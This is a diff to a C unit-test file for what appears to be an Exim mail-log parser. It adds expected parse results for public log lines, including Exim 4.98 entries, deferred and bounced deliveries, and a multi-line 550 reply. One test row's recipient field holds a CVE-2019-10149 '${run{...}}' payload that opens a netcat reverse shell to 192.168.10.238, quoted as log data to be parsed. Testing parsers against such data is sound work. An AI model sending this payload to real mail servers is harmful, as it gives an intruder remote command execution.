@@ -1012,7 +1012,11 @@ static const row_t constructed_rows[] = {
  * log_timezone stamps ("+0100"), "->  a" with two spaces, "** a
  * R=virtual_aliases: No Such User Here", an "exim[pid]: " line without the
  * syslog date and host and with the wording of Exim before 4.50 ("SMTP
- * error from remote mailer after"), a reply cut with a trailing space.
+ * error from remote mailer after"), a reply cut with a trailing space;
+ * 22-27 Exim 4.98 with 23-character ids (host lines, => with DN=); 28-40
+ * a cPanel article's lines: a CVE-2019-10149 "${run{...}}" address,
+ * frozen messages, host-level lines without a flag (skipped), a multi-line
+ * 550 reply with literal "\n".
  * fail2ban.log: authenticator failures, rejects, sender verify, "closed by
  * DROP in ACL" with a message id: all negatives.
  */
@@ -1222,6 +1226,92 @@ static const row_t public_rows[] = {
      .ms = 1433681473000LL},
     {.file = 'P', .line = 20, .res = RS_PARSE_SKIP},
     {.file = 'P', .line = 21, .res = RS_PARSE_SKIP},
+    {.file = 'P', .line = 22, .res = RS_PARSE_SKIP},
+    {.file = 'P', .line = 23, .res = RS_PARSE_SKIP},
+    {.file = 'P', .line = 24, .res = RS_PARSE_SKIP},
+    {.file = 'P', .line = 25, .res = RS_PARSE_SKIP},
+    {.file = 'P',
+     .line = 26,
+     .res = RS_PARSE_EVENT,
+     .status = RS_STATUS_SENT,
+     .stage = RS_STAGE_UNKNOWN,
+     .code = 250,
+     .enhanced = "2.0.0",
+     .host = "mx.yandex.ru",
+     .ip = "77.88.21.249",
+     .rcpt = "xxxxxxx@ya.ru",
+     .domain = "ya.ru",
+     .qid = "1smkL5-00000000e65-24eQ",
+     .text = "250 2.0.0 Ok: queued on "
+             "mail-nwsmtp-mxfront-production-main-42.sas.yp-c.yandex.net "
+             "1725672891-oYTsOiJLGSw0-m3DSxyvl",
+     .log_time = "2024-09-07 01:34:12",
+     .ms = 1725672852000LL},
+    {.file = 'P', .line = 27, .res = RS_PARSE_SKIP},
+    {.file = 'P', .line = 28, .res = RS_PARSE_SKIP},
+    {.file = 'P', .line = 29, .res = RS_PARSE_SKIP},
+    {.file = 'P',
+     .line = 30,
+     .res = RS_PARSE_EVENT,
+     .status = RS_STATUS_SENT,
+     .stage = RS_STAGE_UNKNOWN,
+     .code = 0,
+     .rcpt = "irwin@mail.cup.com",
+     .domain = "mail.cup.com",
+     .qid = "1j9Zdk-00029d-Bi",
+     .log_time = "2020-03-04 19:25:08",
+     .ms = 1583349908000LL},
+    {.file = 'P',
+     .line = 31,
+     .res = RS_PARSE_EVENT,
+     .status = RS_STATUS_BOUNCED,
+     .stage = RS_STAGE_UNKNOWN,
+     .code = 0,
+     .rcpt = "${run{\\x2fbin\\x2fsh\\t-c\\t\\x22nc\\t-"
+             "e\\t\\x2fbin\\x2fsh\\t192.168.10.238\\t9963\\x22}}@localhost",
+     .domain = "localhost",
+     .qid = "1j9ZoZ-0002Jk-9W",
+     .text = "Too many \"Received\" headers - suspected mail loop",
+     .log_time = "2020-03-04 19:36:19",
+     .ms = 1583350579000LL},
+    {.file = 'P', .line = 32, .res = RS_PARSE_SKIP},
+    {.file = 'P', .line = 33, .res = RS_PARSE_SKIP},
+    {.file = 'P', .line = 34, .res = RS_PARSE_SKIP},
+    {.file = 'P', .line = 35, .res = RS_PARSE_SKIP},
+    {.file = 'P',
+     .line = 36,
+     .res = RS_PARSE_EVENT,
+     .status = RS_STATUS_DEFERRED,
+     .stage = RS_STAGE_RCPT_TO,
+     .code = 451,
+     .host = "gylsystems.com",
+     .ip = "69.69.69.69",
+     .rcpt = "test@badluckbryan.com",
+     .domain = "badluckbryan.com",
+     .qid = "1XWqqy-00028x-FK",
+     .text = "451 Temporary local problem - please try later",
+     .log_time = "2014-09-24 12:59:49",
+     .ms = 1411563589000LL},
+    {.file = 'P', .line = 37, .res = RS_PARSE_SKIP},
+    {.file = 'P',
+     .line = 38,
+     .res = RS_PARSE_EVENT,
+     .status = RS_STATUS_BOUNCED,
+     .stage = RS_STAGE_RCPT_TO,
+     .code = 550,
+     .host = "mail.domain.com",
+     .ip = "10.5.40.204",
+     .rcpt = "aaron@domain.com",
+     .domain = "domain.com",
+     .qid = "1XO5PX-0006SC-Qa",
+     .text = "550-Verification for <garfield@domain.com>\\n550-The mail server "
+             "could not deliver mail to garfield@domain.com. The account or "
+             "domain may not exist, they may be blacklisted, or missing the "
+             "proper dns entries.\\n550 Sender verify failed",
+     .log_time = "2014-08-31 08:43:16",
+     .ms = 1409474596000LL},
+    {.file = 'P', .line = 39, .res = RS_PARSE_SKIP},
+    {.file = 'P', .line = 40, .res = RS_PARSE_SKIP},
     {.file = 'F', .line = 1, .res = RS_PARSE_SKIP},
     {.file = 'F', .line = 2, .res = RS_PARSE_SKIP},
     {.file = 'F', .line = 3, .res = RS_PARSE_SKIP},
@@ -1315,7 +1405,7 @@ static void test_real_lines(void **state)
 static void test_public_lines(void **state)
 {
 	(void)state;
-	assert_int_equal(public13.count, 21);
+	assert_int_equal(public13.count, 40);
 	assert_int_equal(fail2ban.count, 10);
 	for (size_t i = 0; i < sizeof(public_rows) / sizeof(public_rows[0]);
 	     i++) {
